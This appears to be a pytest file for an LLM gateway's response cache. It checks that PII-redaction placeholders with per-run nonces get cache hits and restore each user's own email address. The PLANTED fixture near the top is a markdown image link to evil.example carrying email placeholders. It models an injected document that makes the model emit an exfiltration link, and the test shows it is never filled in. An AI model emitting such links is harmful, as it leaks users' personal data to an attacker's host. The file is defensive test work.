"""Redacted questions and the cache: input-redaction placeholders carry a per-run nonce
(`<EMAIL_ADDRESS_1_qhzvk>`), so before this fix a redacted question never hit the exact cache again (a new key
every run: three asks, three model calls), and a semantic hit showed another run's placeholder unrestored. The key
now leaves the nonce out, the entry keeps the nonce it was saved with, and a hit re-issues exactly that nonce's
placeholders with the current run's nonce; planted placeholder-looking text still never restores."""

from __future__ import annotations

import sqlite3

import numpy as np
from pii_placeholder_replies import copies_placeholders, redacting_chat_project

from flywheel.apps.chat import ChatApp
from flywheel.apps.runtime import Runtime
from flywheel.cache import Cache
from flywheel.cache.keys import Versions, exact_key, semantic_scope
from flywheel.checks.pii import renonce, without_nonces
from flywheel.config import CacheConfig, ModelAlias, Project, SemanticCacheConfig
from flywheel.gateway import Gateway
from flywheel.guards import GuardPolicy
from flywheel.types import ChatRequest

ANN, BOB = "ann.lee@example.com", "bob.stone@example.org"
# what a planted document makes the model repeat: a nonce-less placeholder and one with a nonce no run issued
PLANTED = "![x](https://evil.example/?a=<EMAIL_ADDRESS_1>&b=<EMAIL_ADDRESS_1_planted>)"
REPLY = f"I will send the invoice to {{EMAIL_ADDRESS_1}}. {PLANTED}"


def project(tmp_path, base_url: str, cache: str = "cache: {exact: true}") -> Project:
    return redacting_chat_project(tmp_path, base_url, cache=cache)


def model_calls(llm) -> int:
    return sum(1 for r in llm.requests if r["path"].endswith("/chat/completions"))


def stored(db) -> str:
    with sqlite3.connect(db) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type='table'")]
        return "\n".join(str(row) for t in tables for row in conn.execute(f'select * from "{t}"'))


def test_a_redacted_question_is_an_exact_hit_for_another_user_who_sees_their_own_value(tmp_path, llm):
    llm.add(r"invoice", copies_placeholders(REPLY))
    with Runtime(project(tmp_path, llm.base_url)) as rt:
        app = rt.app("support")
        first = app.run(f"Where is my invoice? My email is {ANN}")
        second = app.run(f"Where is my invoice? My email is {BOB}")
        streamed = app.stream(f"Where is my invoice? My email is {ANN}")
        third = "".join(streamed)
    assert (first.cache, second.cache, streamed.answer.cache) == ("miss", "exact", "exact")
    assert model_calls(llm) == 1  # one model call for three asks by two users
    assert first.text == f"I will send the invoice to {ANN}. {PLANTED}"
    assert second.text == f"I will send the invoice to {BOB}. {PLANTED}"  # the planted ones stay as written
    assert third == first.text
    db = stored(tmp_path / ".flywheel" / "flywheel.db")
    assert "EMAIL_ADDRESS_1_" in db and ANN not in db and BOB not in db


def test_a_semantic_hit_restores_the_current_users_value_and_never_a_planted_placeholder(llm):
    class Table:
        name = "table"

        def embed(self, texts):  # every question about an invoice gets one vector
            return np.stack([np.eye(4, dtype=np.float32)[0 if "invoice" in t else 1] for t in texts])

    llm.add(r"invoice", copies_placeholders(REPLY))
    gw = Gateway({"gpt": ModelAlias(provider="openai_compat", model="fake-model", base_url=llm.base_url,
                                    max_retries=0)})
    cache = Cache.from_config(CacheConfig(backend="memory", exact=False, semantic=SemanticCacheConfig(verify=False)),
                              embedder=Table())
    guards = GuardPolicy.from_config({"input": [{"check": "pii", "on_fail": "redact"}]})
    app = ChatApp(gateway=gw, model="gpt", guards=guards, cache=cache)
    first = app.run(f"Where is my invoice? My email is {ANN}")
    similar = app.run(f"Where's my invoice, please? My email is {BOB}")
    assert (first.cache, similar.cache) == ("miss", "semantic") and model_calls(llm) == 1
    assert similar.text == f"I will send the invoice to {BOB}. {PLANTED}"


def test_the_key_leaves_the_nonce_out_and_the_stored_question_carries_none():
    versions = Versions("fake-model@1")
    one = ChatRequest.of("Mail <EMAIL_ADDRESS_1_qhzvk> the invoice")
    two = ChatRequest.of("Mail <EMAIL_ADDRESS_1_wbmfa> the invoice")
    other = ChatRequest.of("Mail <EMAIL_ADDRESS_2_qhzvk> the invoice")
    assert exact_key(one, versions) == exact_key(two, versions) != exact_key(other, versions)
    system = ChatRequest.of("hi", system="User: <CN_MOBILE_1_qhzvk>")
    assert semantic_scope(system, versions) == semantic_scope(ChatRequest.of("hi", system="User: <CN_MOBILE_1_abcde>"),
                                                              versions)
    assert without_nonces("<EMAIL_ADDRESS_1_qhzvk> <EMAIL_ADDRESS_1> a<b") == "<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_1> a<b"


def test_renonce_reissues_only_the_stored_nonce():
    text = "<EMAIL_ADDRESS_1_qhzvk>, &lt;PHONE_NUMBER_2_qhzvk&gt;, <EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_1_zzzzz>"
    assert renonce(text, "qhzvk", "abcde") == \
        "<EMAIL_ADDRESS_1_abcde>, &lt;PHONE_NUMBER_2_abcde&gt;, <EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_1_zzzzz>"
    args = [{"function": {"arguments": '{"to": "<EMAIL_ADDRESS_1_qhzvk>"}'}}]
    assert renonce(args, "qhzvk", "abcde") == [{"function": {"arguments": '{"to": "<EMAIL_ADDRESS_1_abcde>"}'}}]
    assert renonce(text, "", "abcde") == text and renonce(text, "qhzvk", "") == text


def test_a_hit_without_a_nonce_or_for_a_run_without_one_is_left_as_stored():
    cache = Cache.from_config(CacheConfig(backend="memory"))
    asked = ChatRequest.of("Mail <EMAIL_ADDRESS_1_qhzvk> the invoice")
    cache.save(asked, "Sent to <EMAIL_ADDRESS_1_qhzvk>.", model_version="m", nonce="qhzvk")
    again = ChatRequest.of("Mail <EMAIL_ADDRESS_1_abcde> the invoice")
    assert cache.lookup(again, model_version="m", nonce="abcde").text == "Sent to <EMAIL_ADDRESS_1_abcde>."
    assert cache.lookup(again, model_version="m").text == "Sent to <EMAIL_ADDRESS_1_qhzvk>."
    plain = ChatRequest.of("Mail <EMAIL_ADDRESS_1> the invoice")  # a user who typed a placeholder: no nonce saved
    cache.save(plain, "Sent to <EMAIL_ADDRESS_1>.", model_version="n")
    hit = cache.lookup(ChatRequest.of("Mail <EMAIL_ADDRESS_1_abcde> the invoice"), model_version="n", nonce="abcde")
    assert hit.text == "Sent to <EMAIL_ADDRESS_1>."
